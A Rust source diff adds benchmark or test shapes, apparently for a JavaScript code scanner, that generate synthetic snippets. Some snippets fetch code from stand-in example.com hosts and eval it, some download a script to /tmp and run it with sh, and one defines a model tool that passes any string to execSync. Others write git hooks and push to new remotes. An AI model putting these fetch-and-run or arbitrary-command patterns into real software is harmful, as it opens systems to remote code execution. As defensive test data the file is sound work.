@@ -56,6 +56,12 @@ const SHAPES: &[Shape] = &[
     Shape { name: "matches, explained", size: 5_000, words: EXPLAIN, files: |size| script("", size, evals) },
     Shape { name: "flows, explained", size: 2_000, words: EXPLAIN, files: |size| script(SECRET, size, sends) },
     Shape { name: "tool calls", size: 25_000, words: SCRIPT, files: |size| script("", size, gets) },
+    Shape { name: "unknown code, eval", size: 400, words: SCRIPT, files: |size| script("", size, unknown_code) },
+    Shape { name: "commands of a model", size: 400, words: SCRIPT, files: |size| script(KITS, size, model_tool) },
+    Shape { name: "files fetched and run", size: 500, words: SCRIPT, files: |size| script(NODE, size, fetched) },
+    Shape { name: "files that start", size: 800, words: SCRIPT, files: |size| script(NODE, size, startup) },
+    Shape { name: "made and deleted", size: 2_000, words: SCRIPT, files: |size| script(CLIENT, size, made) },
+    Shape { name: "remotes that are pushed to", size: 800, words: SCRIPT, files: |size| script(GIT, size, remote) },
     Shape { name: "trusted hosts", size: 30_000, words: SETTINGS, files: |size| settings("trusted:", size, |at| format!("- h{at}.io")) },
     Shape { name: "names of calls", size: 30_000, words: SETTINGS, files: |size| settings("calls:", size, |at| format!("- o.c{at}")) },
     Shape { name: "anchors", size: 10_000, words: SETTINGS, files: |size| settings("trusted:", size, |at| format!("- &a{at} h{at}.io")) },
@@ -68,6 +74,11 @@ const TELL: &str = "await callTool('notes:create', o);";
 const LIST: &str = "let x = await callTool('users:list', {});\n";
 const SECRET: &str = "const s = process.env.SECRET_TOKEN;\n";
 const CONVERT: &str = "x = await callTool('text:format', { x });";
+
+const NODE: &str = "const fs = require('fs'); const { execSync } = require('child_process');\n";
+const KITS: &str = "import { tool } from 'ai'; import { z } from 'zod'; import { execSync } from 'node:child_process';\n";
+const CLIENT: &str = "import { PrismaClient } from '@prisma/client';\nconst db = new PrismaClient();\n";
+const GIT: &str = "import simpleGit from 'simple-git';\nconst git = simpleGit();\n";
 
 fn object(keys: usize) -> String {
     let keys: String = (0..keys).map(|at| format!("k{at}: {at}, ")).collect();
@@ -115,6 +126,32 @@ fn sends(at: usize) -> String {
 
 fn gets(at: usize) -> String {
     format!("const r{at} = await callTool('tickets:get{at}', {{ id: {at} }});")
+}
+
+fn unknown_code(at: usize) -> String {
+    format!(
+        "async function f{at}(a{at}) {{ const b{at} = await (await fetch('https://h{at}.example.com')).text(); eval(b{at}); }} f{at}();"
+    )
+}
+
+fn model_tool(at: usize) -> String {
+    format!("const t{at} = tool({{ inputSchema: z.object({{ c: z.string() }}), execute: async ({{ c }}) => execSync(c).toString() }});")
+}
+
+fn fetched(at: usize) -> String {
+    format!("fs.writeFileSync('/tmp/f{at}.sh', await (await fetch('https://h{at}.example.com')).text()); execSync('sh /tmp/f{at}.sh');")
+}
+
+fn startup(at: usize) -> String {
+    format!("fs.writeFileSync('/srv/a{at}/.git/hooks/pre-push', '#!/bin/sh\\nnpm run check{at}\\n');")
+}
+
+fn made(at: usize) -> String {
+    format!("await db.backup.create({{ data: {{ id: 'b{at}' }} }}); await db.backup.delete({{ where: {{ id: 'b{at}' }} }});")
+}
+
+fn remote(at: usize) -> String {
+    format!("await git.addRemote('r{at}', 'https://git{at}.example.com/a.git'); await git.push('r{at}', 'main');")
 }
 
 fn wildcard(at: usize) -> String {
